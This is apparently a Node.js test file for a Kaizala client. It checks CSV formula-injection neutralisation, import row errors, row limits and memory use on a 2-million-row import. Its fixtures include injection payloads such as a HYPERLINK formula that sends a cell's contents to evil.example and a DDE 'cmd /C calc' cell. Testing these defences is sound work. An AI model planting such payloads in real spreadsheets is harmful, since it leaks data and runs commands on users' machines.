// CSV is safe both ways: exports and the import error log neutralise cells a spreadsheet would run
// as a formula (E.164 numbers stay as they are); an unclosed quote is a row error, never silent;
// imports have a row limit (maxRows, default 100,000) refused before anything is sent; and a
// 2M-row import keeps its memory and its record small.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { json, kaizala, options, parseCsv, platform, refused, runChild } from './helpers.mjs';

const DANGER = /^[=+\-@\t\r]/;
const E164 = /^\+[1-9]\d{7,14}$/;

let kz;
let p;
/** Numbers added by PUT …/members, in order. */
let added = [];
before(async () => {
  kz = kaizala();
  p = await platform((rec, res) => {
    const path = rec.url.split('?')[0];
    if (path === '/inc-000/v1/groups/g1/members' && rec.method === 'GET') {
      return json(res, 200, {
        members: [
          { id: '=1+1', mobileNumber: '+911000000001', role: 'Admin', isProvisioned: true, name: '=HYPERLINK("http://evil.example/?"&A1,"Click")' },
          { id: 'u2', mobileNumber: '+911000000002', role: '+SUM(1,2)', isProvisioned: false, name: '-2+3' },
          { id: 'u3', mobileNumber: '-911000000003', role: '@SUM(A1)', name: '\t=1', '=cmd': '\r=2' },
          { id: 'u4', mobileNumber: '+91 12', role: 'Member', name: 'Ann' },
        ],
      });
    }
    if (path === '/inc-000/v1/groups/g1/members' && rec.method === 'PUT') {
      added.push(...JSON.parse(rec.body).members);
      return json(res, 200, { result: true });
    }
    if (path === '/inc-000/v1/groups/g1/subscribers') {
      return json(res, 200, { subscribers: [{ id: 's1', mobileNumber: '+14155550100', name: '@evil', profilePic: '=IMPORTXML("x")' }] });
    }
    return false;
  });
});
after(() => p.close());

/** Every cell is either harmless or neutralised with a leading `'`; answers the rows. */
function safe(csv) {
  const rows = parseCsv(csv);
  for (const row of rows) {
    for (const cell of row) {
      assert.ok(!DANGER.test(cell) || E164.test(cell), `a cell a spreadsheet would run: ${JSON.stringify(cell)}`);
    }
  }
  return rows;
}

describe('exports', () => {
  test('exportMembers: cells starting with = + - @ tab or CR get a leading quote; E.164 numbers stay', async () => {
    const client = new kz.KaizalaClient(options(p));
    const rows = safe(await client.exportMembers('g1'));
    assert.deepEqual(rows[0], ['id', 'mobileNumber', 'role', 'isProvisioned', "'=cmd", 'name']);
    assert.deepEqual(rows[1], ["'=1+1", '+911000000001', 'Admin', 'true', '', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")']);
    assert.deepEqual(rows[2], ['u2', '+911000000002', "'+SUM(1,2)", 'false', '', "'-2+3"]);
    assert.deepEqual(rows[3], ['u3', "'-911000000003", "'@SUM(A1)", '', "'\r=2", "'\t=1"]);
    assert.deepEqual(rows[4], ['u4', "'+91 12", 'Member', '', '', 'Ann']);
  });

  test('exportSubscribers: the same', async () => {
    const client = new kz.KaizalaClient(options(p));
    const rows = safe(await client.exportSubscribers('g1'));
    assert.deepEqual(rows[1], ['s1', '+14155550100', "'@evil", "'=IMPORTXML(\"x\")", '']);
  });
});

describe('imports', () => {
  test('the error log neutralises what the file said; the record keeps it as written', async () => {
    const client = new kz.KaizalaClient(options(p));
    const record = await client.importMembers('g1', 'mobile,name\n=cmd|\' /C calc\'!A0,x\n@SUM(1),y\n+911000000009,ok\n');
    const rows = safe(record.errorLogCsv);
    assert.deepEqual(rows.slice(1).map((r) => r[1]), ["'=cmd|' /C calc'!A0", "'@SUM(1)"]);
    assert.equal(record.errors[0].mobileNumber, "=cmd|' /C calc'!A0");
  });

  test('an unclosed quote is a row error, not a silent end: the rows before it go in, the rest is reported', async () => {
    added = [];
    const client = new kz.KaizalaClient(options(p));
    const record = await client.importMembers('g1',
      'mobile,name\n+911000000011,Ann\n+911000000012,"Bob\n+911000000013,Cid\n+911000000014,Dee\n');
    assert.notEqual(record.status, 'Completed');
    assert.equal(record.status, 'CompletedWithErrors');
    assert.deepEqual(added, ['+911000000011']);
    assert.equal(record.failed, 1);
    assert.equal(record.errors[0].row, 3);
    assert.match(record.errors[0].reason, /never closed/);
    assert.match(record.errors[0].reason, /rest of the file/);
  });

  test('maxRows: a longer file is refused with too_large before anything is sent', async () => {
    const client = new kz.KaizalaClient(options(p));
    const rows = (n) => `mobile\n${Array.from({ length: n }, (_, i) => `+9120${String(i).padStart(8, '0')}`).join('\n')}\n`;
    const before = p.requests.length;
    const e = await refused(client.importMembers('g1', rows(100_001)), 'too_large', kz);
    assert.equal(e.field, 'csv');
    assert.match(e.message, /100000 rows/);
    await refused(client.importMembers('g1', rows(6), { maxRows: 5 }), 'too_large', kz);
    await refused(client.importMembers('g1', new Blob([rows(6)]), { maxRows: 5 }), 'too_large', kz);
    for (const bad of [0, -1, 1.5, 'many', true]) {
      const x = await refused(client.importMembers('g1', rows(1), { maxRows: bad }), 'invalid_input', kz);
      assert.equal(x.field, 'maxRows');
    }
    assert.equal(p.requests.length, before, 'nothing was sent, not even a sign-in');
    added = [];
    const ok = await client.importMembers('g1', rows(5), { maxRows: 5 });
    assert.equal(ok.added, 5);
  });
});

describe('a 2M-row import', () => {
  test('memory stays near a batch and the record stays small', async () => {
    const source = `
import { KaizalaClient } from 'kaizala';
const client = new KaizalaClient(JSON.parse(process.env.HOSTILE_OPTIONS));
const ROWS = 2_000_000;
// Built in blocks, so no array of two million strings is left for the collector mid-measure.
let text = 'mobile,name,team\\n';
for (let b = 0; b < ROWS; b += 10_000) {
  let block = '';
  for (let i = b; i < b + 10_000; i++) block += '+9130' + String(i).padStart(8, '0') + ',Member ' + i + ',Team ' + (i % 7) + '\\n';
  text += block;
}
// One flat string, as a file read into memory would be.
text = Buffer.from(text, 'latin1').toString('latin1');
const rss = () => process.memoryUsage().rss;
const MB = (n) => Math.round(n / 1048576);
await client.listGroups().catch(() => {});
const out = { csvMB: MB(text.length) };
for (const kind of ['string', 'blob']) {
  const input = kind === 'string' ? text : new Blob([text]);
  globalThis.gc();
  await new Promise((ok) => setTimeout(ok, 200));
  globalThis.gc();
  const base = rss();
  let peak = base;
  const timer = setInterval(() => { peak = Math.max(peak, rss()); }, 10);
  const t0 = Date.now();
  const record = await client.importMembers('g2', input, { maxRows: ROWS, batchSize: 1000 });
  clearInterval(timer);
  peak = Math.max(peak, rss());
  const recordKB = Math.round(JSON.stringify(record).length / 1024);
  globalThis.gc();
  out[kind] = { seconds: (Date.now() - t0) / 1000, rssBeforeMB: MB(base), rssPeakMB: MB(peak), rssAfterMB: MB(rss()),
    growthMB: MB(peak - base), recordKB,
    added: record.added, total: record.total,
    members: record.members.length, membersOmitted: record.membersOmitted };
}
console.log(JSON.stringify(out));
`;
    let puts = 0;
    const q = await platform((rec, res) => {
      const path = rec.url.split('?')[0];
      if (path === '/inc-000/v1/groups/g2/members' && rec.method === 'GET') return json(res, 200, { members: [] });
      if (path === '/inc-000/v1/groups/g2/members' && rec.method === 'PUT') {
        puts += 1;
        return json(res, 200, { result: true });
      }
      if (path === '/inc-000/v1/groups') return json(res, 200, { groups: [] });
      return false;
    });
    try {
      const run = await runChild('hostile-import-2m.mjs', source, {
        env: { HOSTILE_OPTIONS: JSON.stringify(options(q)) },
        timeoutMs: 600_000,
        nodeArgs: ['--expose-gc'],
      });
      assert.equal(run.code, 0, `ended with ${run.code ?? run.signal}\n${run.stderr.slice(-2000)}`);
      const r = run.result;
      for (const kind of ['string', 'blob']) {
        const k = r[kind];
        test.diagnostic?.(`${kind}: ${JSON.stringify(k)}`);
        console.log(`# 2M-row import from a ${kind} (${r.csvMB} MB of CSV): ${JSON.stringify(k)}`);
        assert.equal(k.total, 2_000_000);
        assert.equal(k.added, 2_000_000);
        assert.equal(k.members, 1000);
        assert.equal(k.membersOmitted, 2_000_000 - 1000);
        assert.ok(k.recordKB < 1024, `the record is ${k.recordKB} KB`);
        assert.ok(k.growthMB < 400, `memory grew by ${k.growthMB} MB`);
      }
      assert.equal(puts, 4000, 'two imports of 2,000 batches');
    } finally {
      await q.close();
    }
  });
});
